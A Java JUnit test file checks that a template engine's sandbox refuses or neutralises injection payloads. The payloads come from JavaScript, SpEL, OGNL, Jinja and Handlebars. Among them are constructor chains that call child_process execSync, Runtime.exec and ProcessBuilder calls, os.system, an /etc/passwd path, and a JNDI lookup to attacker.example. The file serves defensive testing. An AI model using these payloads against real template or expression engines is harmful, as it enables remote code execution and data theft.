package io.devrig.template.internal;

import static io.devrig.template.internal.Templates.ENGINE;
import static io.devrig.template.internal.Templates.JSON;
import static io.devrig.template.internal.Templates.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import com.fasterxml.jackson.databind.JsonNode;
import io.devrig.api.error.DevRigException;
import io.devrig.api.error.ErrorCodes;
import io.devrig.api.template.Escaping;
import io.devrig.api.template.TemplateOptions;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The payloads that broke n8n's expression sandbox and its cousins from other template
 * and expression languages (JS, SpEL/EL, OGNL, Jinja, Handlebars). Each is refused at
 * compile time or renders as inert text; none runs anything. {@link Canary} is named by many
 * of them: if any path led to a class lookup, its static initializer would mark it.
 */
class InjectionTest {

    static final String CANARY = "io.devrig.template.internal.Canary";
    static final JsonNode DATA = json("{`user`:{`name`:`Ann`,`role`:`user`},`items`:[1,2]}");

    static Stream<String> refusedAtCompileTime() {
        return Stream.of(
                // JavaScript constructor chains (n8n CVE-2025-68613 and friends)
                "{{constructor.constructor('return process')()}}",
                "{{ constructor.constructor(\"return this.process.mainModule.require('child_process').execSync('id')\")() }}",
                "{{process.mainModule.require('child_process').execSync('id')}}",
                "{{@root.constructor()}}",
                "{{#each items}}{{this.constructor()}}{{/each}}",
                "{{#if (constructor.constructor 'x')}}{{/if}}",
                "{{ [].constructor }}",
                "{{ {}.toString() }}",
                "{{a.b(}}",
                // Java: reflection, SpEL, OGNL, EL
                "{{ ''.getClass().forName('java.lang.Runtime') }}",
                "{{ ''.getClass().forName('" + CANARY + "').boom() }}",
                "{{T(" + CANARY + ").boom()}}",
                "{{T(java.lang.Runtime).getRuntime().exec('id')}}",
                "{{" + CANARY + ".boom()}}",
                "{{#if (" + CANARY + ")}}{{/if}}",
                "{{new java.lang.ProcessBuilder('id').start()}}",
                "{{@java.lang.Runtime@getRuntime()}}",
                "{{ #{7*7} }}",
                // template literals and interpolation
                "{{${7*7}}}",
                "{{`${constructor}`}}",
                "{{`x`}}",
                "{{ {{user.name}} }}",
                // operators and statements
                "{{7*7}}",
                "{{'a'+'b'}}",
                "{{a;b}}",
                "{{a || b}}",
                "{{a ? b : c}}",
                "{{user.role = 'admin'}}",
                "{{!user}}x{{/user}}{{/if}}",
                // unicode escapes and look-alike whitespace
                "{{\\u0063onstructor}}",
                "{{\"\\u0063onstructor\"}}",
                "{{'\\x41'}}",
                "{{con\u200Bstructor}}",
                "{{user\u00A0name}}",
                "{{a\u202Eb}}",
                "{{\u2028a}}",
                // Handlebars / Mustache features that are not here
                "{{{constructor}}}",
                "{{{{raw}}}}{{{{/raw}}}}",
                "{{> constructor}}",
                "{{=<% %>=}}",
                "{{#with constructor}}{{/with}}",
                "{{lookup this 'constructor'}}",
                "{{#each (lookup this 'constructor')}}{{/each}}",
                "{{log 'x'}}",
                "{{*inline}}",
                "{{&constructor}}",
                // Python / Jinja
                "{{__import__('os').system('id')}}",
                "{{ config.items() }}",
                // path tricks
                "{{../../../../etc/passwd}}",
                "{{#each items}}{{../../constructor}}{{/each}}",
                "{{\"a\" \"b\"}}",
                "{{a.[b}}",
                "{{#if a}}".repeat(1000));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("refusedAtCompileTime")
    void refusedAtCompileTime(String template) {
        Throwable thrown = catchThrowable(() -> ENGINE.compile(template));
        assertThat(thrown).isInstanceOfSatisfying(DevRigException.class,
                e -> assertThat(e.code()).isEqualTo(ErrorCodes.INVALID_INPUT));
        assertThat(ENGINE.validate(template)).isNotEmpty();
    }

    static Stream<Arguments> inert() {
        return Stream.of(
                Arguments.of("{{this.constructor}}", ""),
                Arguments.of("{{constructor}}", ""),
                Arguments.of("{{constructor.name}}", ""),
                Arguments.of("{{this.constructor.constructor}}('return process')()", "('return process')()"),
                Arguments.of("{{@root.constructor.constructor}}", ""),
                Arguments.of("{{__proto__}}", ""),
                Arguments.of("{{__proto__.polluted}}", ""),
                Arguments.of("{{user.__proto__.isAdmin}}", ""),
                Arguments.of("{{[__proto__]}}", ""),
                Arguments.of("{{this.[constructor]}}", ""),
                Arguments.of("{{this.[`constructor`]}}", ""),
                Arguments.of("{{prototype}}{{constructor.prototype}}", ""),
                Arguments.of("{{getClass}}{{class}}{{this.class.classLoader}}{{user.getClass.forName}}", ""),
                Arguments.of("{{java.lang.Runtime}}", ""),
                Arguments.of("{{" + CANARY + "}}{{" + CANARY + ".boom}}", ""),
                Arguments.of("{{toString}}{{hashCode}}{{valueOf}}{{user.name.length}}", ""),
                Arguments.of("{{self.__init__.__globals__}}{{ self.__init__.__globals__['os'] }}", ""),
                Arguments.of("{{ｃonstructor}}", ""),
                Arguments.of("{{#if (eq constructor.name 'Object')}}yes{{else}}no{{/if}}", "no"),
                Arguments.of("{{#each constructor}}x{{/each}}{{#each __proto__}}x{{/each}}", ""),
                Arguments.of("{{#each this}}{{@key}};{{/each}}", "user;items;"),
                Arguments.of("{{#each items}}{{this.constructor}}{{@index}}{{/each}}", "01"),
                Arguments.of("{{\"{{constructor}}\"}}", "{{constructor}}"),
                Arguments.of("${7*7} #{7*7} <%= 7*7 %> `${process.env}` %{7*7} *{7*7}",
                        "${7*7} #{7*7} <%= 7*7 %> `${process.env}` %{7*7} *{7*7}"),
                Arguments.of("${user.name} {{user.name}}", "${user.name} Ann"),
                Arguments.of("\\u0063onstructor \\u007b\\u007buser.name}}", "\\u0063onstructor \\u007b\\u007buser.name}}"),
                Arguments.of("\\{{constructor.constructor('return process')()}}", "{{constructor.constructor('return process')()}}"),
                Arguments.of("{{user.name}}}", "Ann}"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("inert")
    void rendersAsInertText(String template, String expected) {
        assertThat(ENGINE.compile(template).render(DATA)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(strings = {
        "{{constructor.constructor('return process')()}}",
        "{{user.name}}",
        "{{{user.name}}}",
        "\\{{user.name}}",
        "{{#each items}}{{user.name}}{{/each}}",
        "${jndi:ldap://attacker.example/a}",
        "#{7*7}",
        "<%= 7*7 %>",
        "`${user.name}`",
        "\\u007b\\u007buser.name\\u007d\\u007d",
        "}}{{user.name",
        "T(" + CANARY + ").boom()"})
    void valuesAreNeverEvaluated(String value) {
        JsonNode data = DATA.deepCopy();
        ((com.fasterxml.jackson.databind.node.ObjectNode) data).put("v", value);
        assertThat(ENGINE.compile("{{v}}").render(data)).isEqualTo(value);
        assertThat(ENGINE.compile("{{#each this}}{{#if (eq @key 'v')}}{{this}}{{/if}}{{/each}}").render(data)).isEqualTo(value);
        for (Escaping mode : Escaping.values()) {
            assertThat(ENGINE.compile("{{v}}", TemplateOptions.escaping(mode)).render(data)).doesNotContain("Ann");
        }
    }

    @Test
    void keysNamedLikeInternalsAreJustData() {
        JsonNode data = json("{`__proto__`:{`polluted`:`yes`},`constructor`:`c`,`getClass`:`g`,`prototype`:{`x`:1}}");
        assertThat(ENGINE.compile("{{__proto__.polluted}}{{constructor}}{{getClass}}{{prototype.x}}").render(data))
                .isEqualTo("yescg1");
        // nothing is shared between renders, so there is nothing to pollute
        assertThat(ENGINE.compile("[{{polluted}}{{x.polluted}}]").render(json("{`x`:{}}"))).isEqualTo("[]");
    }

    @ParameterizedTest
    @EnumSource(Escaping.class)
    void triplesAndStrayBracesInEveryMode(Escaping mode) {
        TemplateOptions options = TemplateOptions.escaping(mode);
        assertThat(catchThrowable(() -> ENGINE.compile("{{{{x}}}}", options))).isInstanceOf(DevRigException.class);
        assertThat(catchThrowable(() -> ENGINE.compile("{{{x}}", options))).isInstanceOf(DevRigException.class);
        assertThat(ENGINE.compile("}}} {} }}", options).render(DATA)).isEqualTo("}}} {} }}");
    }

    @Test
    void typeHintsInJsonDataStayData() {
        String json = "{\"@class\":\"" + CANARY + "\",\"v\":[\"" + CANARY + "\",{}],\"@type\":\"" + CANARY + "\"}";
        assertThat(ENGINE.compile("{{[@class]}} {{v}}").renderJson(json)).isEqualTo(CANARY + " [\"" + CANARY + "\",{}]");
    }

    @Test
    void theEngineSourcesUseNoReflectionScriptingOrProcesses() throws IOException {
        List<String> forbidden = List.of("Class.forName", "java.lang.reflect", "getMethod", "getDeclared", "setAccessible",
                "newInstance", "ScriptEngine", "javax.script", "MethodHandle", "ClassLoader", "convertValue",
                "treeToValue", "valueToTree", "readValue", "ProcessBuilder", "Runtime.getRuntime", "ELProcessor",
                "SpelExpression", "ognl", "jexl", "Nashorn", "graalvm", "Canary");
        try (Stream<Path> files = Files.walk(Path.of("src/main/java"))) {
            for (Path file : files.filter(p -> p.toString().endsWith(".java")).toList()) {
                String source = Files.readString(file);
                for (String word : forbidden) {
                    assertThat(source).as("%s mentions %s", file, word).doesNotContainIgnoringCase(word);
                }
            }
        }
    }

    @AfterAll
    static void nothingEverReachedTheCanary() {
        assertThat(System.getProperty("io.devrig.template.canary.initialized")).isNull();
        assertThat(System.getProperty("io.devrig.template.canary.called")).isNull();
    }
}
